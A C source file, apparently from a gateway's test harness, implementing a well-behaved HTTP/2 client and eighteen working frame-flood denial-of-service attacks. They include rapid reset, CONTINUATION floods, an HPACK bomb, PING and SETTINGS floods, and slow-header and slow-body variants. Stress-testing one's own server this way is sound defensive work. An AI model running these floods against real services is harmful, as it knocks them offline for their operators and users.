/* Clients of scripts/attack that speak HTTP/2: one that behaves, and floods of frames.
 *
 * Frames are made by hand, header fields are literals without indexing or Huffman. A flood holds
 * some connections, writes on each in turn as much as it takes, and makes a new one for each that
 * ends. It prints how many connections it made, frames it wrote, and, of the connections that were
 * ended, how many were told so by GOAWAY. */
#include "attacker.h"
#include "attacker_frames.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { CONNECTIONS_MAX = 200, STREAMS = 100 };

/* --- who behaves --------------------------------------------------------------------------------
 */

static bool send_batch(SSL *ssl, const struct batch *batch)
{
    return batch->length == 0 || SSL_write(ssl, batch->bytes, (int)batch->length) > 0;
}

/* The frame's payload comes last; false: nothing more, or too large. */
static const unsigned char *read_frame(SSL *ssl, struct h2_client *client, size_t *length)
{
    for (;;) {
        *length = client->held >= 9 ? read_u32(client->in) >> 8 : 0;
        if (client->held >= 9 && client->held >= 9 + *length)
            return client->in;
        if (9 + *length > sizeof(client->in))
            return NULL;
        int got =
            SSL_read(ssl, client->in + client->held, (int)(sizeof(client->in) - client->held));
        if (got <= 0)
            return NULL;
        client->held += (unsigned long)got;
    }
}

static void take_frame(struct h2_client *client, size_t length)
{
    client->held -= 9 + length;
    memmove(client->in, client->in + 9 + length, client->held);
}

/* What it owes for this frame. */
static void answer_frame(struct h2_client *client, const unsigned char *frame, size_t length,
                         struct batch *out)
{
    if (frame[3] == SETTINGS && (frame[4] & ACK) == 0)
        put_frame(out, SETTINGS, ACK, 0, NULL, 0);
    if (frame[3] == PING && (frame[4] & ACK) == 0)
        put_frame(out, PING, ACK, 0, frame + 9, length);
    if (frame[3] == DATA)
        client->unacknowledged += (unsigned)length;
    if (client->unacknowledged > 32768) {
        put_number_frame(out, WINDOW, 0, client->unacknowledged);
        client->unacknowledged = 0;
    }
}

bool h2_ask(SSL *ssl, struct h2_client *client)
{
    struct batch out = {.length = 0};
    size_t length, body_bytes = 0;
    bool is_fine = false, is_over = false;
    unsigned stream;
    if (client->next_stream == 0) {
        put(&out, preface, sizeof(preface) - 1);
        put_frame(&out, SETTINGS, 0, 0, NULL, 0);
        client->next_stream = 1;
    }
    stream = client->next_stream;
    client->next_stream += 2;
    put_request(&out, stream, false, "/1k");
    if (!send_batch(ssl, &out))
        return false;
    while (!is_over) {
        const unsigned char *frame = read_frame(ssl, client, &length);
        if (frame == NULL || frame[3] == GOAWAY || frame[3] == RST_STREAM)
            return false;
        if (read_u32(frame + 5) == stream) {
            if (frame[3] == HEADERS)
                is_fine = length > 0 && frame[9] == 0x88; /* :status 200 */
            if (frame[3] == DATA)
                body_bytes += length;
            is_over = frame[3] <= HEADERS && (frame[4] & END_STREAM) != 0;
        }
        out.length = 0;
        answer_frame(client, frame, length, &out);
        take_frame(client, length);
        if (!send_batch(ssl, &out))
            return false;
    }
    return is_fine && body_bytes == 1024;
}

/* --- who does not -------------------------------------------------------------------------------
 */

struct victim {
    SSL *ssl;
    struct batch out;
    size_t sent;
    unsigned stream;    /* the newest one */
    unsigned under_way; /* where that is counted: not yet reset by the gateway */
    unsigned long turns;
    struct h2_client in;
    bool has_goaway;
};

struct attack {
    const char *name;
    int connections;
    bool is_deaf;        /* reads nothing */
    bool is_slow;        /* a turn each second instead of as fast as it goes */
    unsigned windows;    /* what it lets the streams and the connection send; 0: as it is */
    bool has_no_windows; /* of streams */
    void (*fill)(struct victim *victim);
};

static unsigned new_stream(struct victim *victim)
{
    return victim->stream = victim->stream == 0 ? 1 : victim->stream + 2;
}

static bool has_room(const struct victim *victim)
{
    return victim->out.length < BATCH - 512;
}

static void fill_rapid_reset(struct victim *victim)
{
    while (has_room(victim)) {
        put_request(&victim->out, new_stream(victim), false, "/10m");
        put_number_frame(&victim->out, RST_STREAM, victim->stream, 8);
    }
}

/* Fields that make a request malformed (RFC 9113 section 8.2.1): the gateway resets it. */
static const char bad_field[] = "\x00\x01X\x01x";

/* No more than may be under way, or that would be why the connection ends. */
static bool may_ask(const struct victim *victim)
{
    return has_room(victim) && victim->under_way < STREAMS - 10;
}

static void fill_malformed(struct victim *victim)
{
    for (; may_ask(victim); victim->under_way++) {
        unsigned char head[256];
        size_t length = make_head(head, false, "/10m");
        memcpy(head + length, bad_field, sizeof(bad_field) - 1);
        put_frame(&victim->out, HEADERS, END_HEADERS | END_STREAM, new_stream(victim), head,
                  length + sizeof(bad_field) - 1);
    }
}

/* Requests that are under way, and trailers that make the gateway reset them. */
static void fill_made_you_reset(struct victim *victim)
{
    for (; may_ask(victim); victim->under_way++) {
        put_request(&victim->out, new_stream(victim), true, "/10m");
        put_frame(&victim->out, HEADERS, END_HEADERS | END_STREAM, victim->stream, bad_field,
                  sizeof(bad_field) - 1);
    }
}

static void begin_endless_head(struct victim *victim)
{
    unsigned char head[256];
    size_t length;
    if (victim->stream != 0)
        return;
    length = make_head(head, false, "/1k");
    put_frame(&victim->out, HEADERS, END_STREAM, new_stream(victim), head, length);
}

static void fill_continuation(struct victim *victim)
{
    begin_endless_head(victim);
    while (has_room(victim))
        put_frame(&victim->out, MORE, 0, victim->stream, "\x00\x03x-y\x05value", 11);
}

static void fill_empty_continuation(struct victim *victim)
{
    begin_endless_head(victim);
    while (has_room(victim))
        put_frame(&victim->out, MORE, 0, victim->stream, NULL, 0);
}

static void fill_settings(struct victim *victim)
{
    while (has_room(victim)) /* HEADER_TABLE_SIZE up and down: work for the encoder as well */
        put_frame(&victim->out, SETTINGS, 0, 0, "\x00\x01\x00\x00\x00\x00\x00\x01\x00\x00\x10\x00",
                  12);
}

static void fill_ping(struct victim *victim)
{
    while (has_room(victim))
        put_frame(&victim->out, PING, 0, 0, "12345678", 8);
}

static void begin_post(struct victim *victim)
{
    if (victim->stream == 0)
        put_request(&victim->out, new_stream(victim), true, "/1k");
}

static void fill_empty_data(struct victim *victim)
{
    begin_post(victim);
    while (has_room(victim))
        put_frame(&victim->out, DATA, 0, victim->stream, NULL, 0);
}

static void fill_padding(struct victim *victim)
{
    static const unsigned char padding[256] = {255};
    begin_post(victim);
    while (has_room(victim))
        put_frame(&victim->out, DATA, PADDED, victim->stream, padding, sizeof(padding));
}

static void fill_window(struct victim *victim)
{
    while (has_room(victim))
        put_number_frame(&victim->out, WINDOW, 0, 1);
}

static void fill_priority(struct victim *victim)
{
    while (has_room(victim)) { /* PRIORITY, PRIORITY_UPDATE, and one of a type that nobody knows */
        new_stream(victim);
        put_frame(&victim->out, PRIORITY, 0, victim->stream, "\x00\x00\x00\x00\x10", 5);
        put_frame(&victim->out, 0x10, 0, 0, "\x00\x00\x00\x01u=0", 7);
        put_frame(&victim->out, UNKNOWN_TYPE, 0, 0, "x", 1);
    }
}

/* An entry of the dynamic table, and as many references to it as there is room for. */
static void fill_bomb(struct victim *victim)
{
    unsigned char block[4096];
    if (victim->stream == 0) {
        size_t length = make_head(block, false, "/1k");
        const char name[] = "\x40\x01n\x7f\xe0\x1e"; /* and how long the value is */
        size_t value_bytes = 4096 - 32 - 1;          /* the whole table */
        memcpy(block + length, name, sizeof(name) - 1);
        length += sizeof(name) - 1;
        memset(block + length, 'b', value_bytes);
        put_frame(&victim->out, HEADERS, END_HEADERS | END_STREAM, new_stream(victim), block,
                  length + value_bytes);
    }
    while (victim->out.length < BATCH - sizeof(block)) {
        size_t length = make_head(block, false, "/1k");
        memset(block + length, 0xbe, sizeof(block) - length);
        put_frame(&victim->out, HEADERS, END_HEADERS | END_STREAM, new_stream(victim), block,
                  sizeof(block));
    }
}

/* Fields of one byte, as many as a frame holds. */
static void fill_tiny_fields(struct victim *victim)
{
    unsigned char block[8192];
    while (victim->out.length < BATCH - sizeof(block)) {
        size_t length = make_head(block, false, "/1k");
        for (; length + 4 <= sizeof(block); length += 4)
            memcpy(block + length, "\x00\x01y\x00", 4);
        put_frame(&victim->out, HEADERS, END_HEADERS | END_STREAM, new_stream(victim), block,
                  length);
    }
}

static void fill_slow_headers(struct victim *victim)
{
    if (victim->stream == 0)
        begin_endless_head(victim);
    else
        put_frame(&victim->out, MORE, 0, victim->stream, "\x00\x03x-y\x05value", 11);
}

static void fill_slow_bodies(struct victim *victim)
{
    if (victim->turns == 0)
        while (victim->stream < 2 * STREAMS - 1)
            put_request(&victim->out, new_stream(victim), true, "/1k");
    for (unsigned stream = 1; stream < 2 * STREAMS; stream += 2)
        put_frame(&victim->out, DATA, 0, stream, "x", 1);
}

/* Requests for much, on a connection that takes nothing of it. */
static void fill_downloads(struct victim *victim)
{
    while (victim->stream < 2 * STREAMS - 1)
        put_request(&victim->out, new_stream(victim), false, "/10m");
}

static const struct attack attacks[] = {
    {.name = "h2_rapid_reset", .connections = 50, .fill = fill_rapid_reset},
    {.name = "h2_malformed", .connections = 50, .fill = fill_malformed},
    {.name = "h2_made_you_reset", .connections = 50, .fill = fill_made_you_reset},
    {.name = "h2_continuation", .connections = 50, .fill = fill_continuation},
    {.name = "h2_empty_continuation", .connections = 50, .fill = fill_empty_continuation},
    {.name = "h2_settings", .connections = 50, .is_deaf = true, .fill = fill_settings},
    {.name = "h2_ping", .connections = 50, .fill = fill_ping},
    {.name = "h2_deaf_ping", .connections = 50, .is_deaf = true, .fill = fill_ping},
    {.name = "h2_empty_data", .connections = 50, .fill = fill_empty_data},
    {.name = "h2_padding", .connections = 50, .fill = fill_padding},
    {.name = "h2_window_updates", .connections = 50, .fill = fill_window},
    {.name = "h2_priorities", .connections = 50, .fill = fill_priority},
    {.name = "h2_hpack_bomb", .connections = 50, .fill = fill_bomb},
    {.name = "h2_tiny_fields", .connections = 50, .fill = fill_tiny_fields},
    {.name = "h2_slow_headers", .connections = 200, .is_slow = true, .fill = fill_slow_headers},
    {.name = "h2_slow_bodies", .connections = 5, .is_slow = true, .fill = fill_slow_bodies},
    {.name = "h2_zero_windows",
     .connections = 5,
     .has_no_windows = true,
     .is_slow = true,
     .fill = fill_downloads},
    {.name = "h2_deaf_downloads",
     .connections = 5,
     .is_deaf = true,
     .is_slow = true,
     .windows = 1U << 30,
     .fill = fill_downloads},
};

static unsigned long made, written, ended, told;

static void open_victim(struct victim *victim, const struct attack *attack)
{
    static const char none[] = "\x00\x04\x00\x00\x00\x00", wide[] = "\x00\x04\x40\x00\x00\x00";
    int fd = dial();
    *victim = (struct victim){.ssl = NULL};
    if (fd < 0)
        return;
    fcntl(fd, F_SETFL, O_NONBLOCK);
    victim->ssl = SSL_new(settings);
    SSL_set_fd(victim->ssl, fd);
    SSL_set_tlsext_host_name(victim->ssl, "localhost");
    SSL_set_alpn_protos(victim->ssl, (const unsigned char *)"\x02h2", 3);
    SSL_set_mode(victim->ssl, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
    SSL_set_connect_state(victim->ssl); /* writing shakes hands */
    put(&victim->out, preface, sizeof(preface) - 1);
    put_frame(&victim->out, SETTINGS, 0, 0, attack->has_no_windows ? none : wide,
              attack->has_no_windows || attack->windows != 0 ? 6 : 0);
    if (attack->windows != 0)
        put_number_frame(&victim->out, WINDOW, 0, attack->windows);
    made++;
}

static void close_victim(struct victim *victim)
{
    int fd = SSL_get_fd(victim->ssl);
    ended++;
    told += victim->has_goaway;
    SSL_free(victim->ssl);
    close(fd);
    victim->ssl = NULL;
}

static bool would_block(SSL *ssl, int outcome)
{
    int error = SSL_get_error(ssl, outcome);
    return error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE;
}

/* Reads all there is; false: the connection has ended. */
static bool listen_to(struct victim *victim)
{
    size_t length;
    for (;;) {
        const unsigned char *frame = victim->in.in;
        int got = SSL_read(victim->ssl, victim->in.in + victim->in.held,
                           (int)(sizeof(victim->in.in) - victim->in.held));
        if (got <= 0)
            return would_block(victim->ssl, got);
        victim->in.held += (unsigned long)got;
        while (victim->in.held >= 9 && victim->in.held >= 9 + (length = read_u32(frame) >> 8)) {
            victim->has_goaway |= frame[3] == GOAWAY;
            victim->under_way -= frame[3] == RST_STREAM;
            take_frame(&victim->in, length);
        }
    }
}

/* False: nothing could be done. */
static bool take_turn(struct victim *victim, const struct attack *attack, bool may_fill)
{
    bool has_done = false;
    if (victim->ssl == NULL)
        open_victim(victim, attack);
    if (victim->ssl == NULL)
        return false;
    if (victim->sent == victim->out.length && (may_fill || victim->turns == 0)) {
        victim->out.length = victim->sent = victim->out.frames = 0;
        attack->fill(victim);
        victim->turns++;
        written += victim->out.frames;
    }
    while (victim->sent < victim->out.length) {
        int put_out = SSL_write(victim->ssl, victim->out.bytes + victim->sent,
                                (int)(victim->out.length - victim->sent));
        if (put_out <= 0) {
            if (would_block(victim->ssl, put_out))
                break;
            listen_to(victim);
            close_victim(victim);
            return true;
        }
        victim->sent += (size_t)put_out;
        has_done = true;
    }
    if (!attack->is_deaf && !listen_to(victim)) {
        close_victim(victim);
        return true;
    }
    return has_done;
}

static volatile sig_atomic_t is_told_to_stop;

static void stop(int number)
{
    is_told_to_stop = number;
}

static void run(const struct attack *attack, int seconds)
{
    static struct victim victims[CONNECTIONS_MAX];
    long long end_us = now_us() + seconds * 1000000LL, next_us = 0;
    signal(SIGPIPE, SIG_IGN);
    signal(SIGINT, stop);
    while (now_us() < end_us && !is_told_to_stop) {
        bool may_fill = !attack->is_slow || now_us() >= next_us, has_done = false;
        if (may_fill)
            next_us = now_us() + 1000000;
        for (int i = 0; i < attack->connections; i++)
            has_done |= take_turn(&victims[i], attack, may_fill);
        if (!has_done)
            sleep_until(now_us() + 1000);
    }
    printf("%lu connections, %lu frames, %lu ended, %lu of them with GOAWAY\n", made, written,
           ended, told);
}

bool h2_attack(const char *name, int seconds)
{
    for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++) {
        if (strcmp(attacks[i].name, name) == 0) {
            run(&attacks[i], seconds);
            return true;
        }
    }
    return false;
}

void h2_print_attacks(void)
{
    for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
        fprintf(stderr, "|%s", attacks[i].name);
}
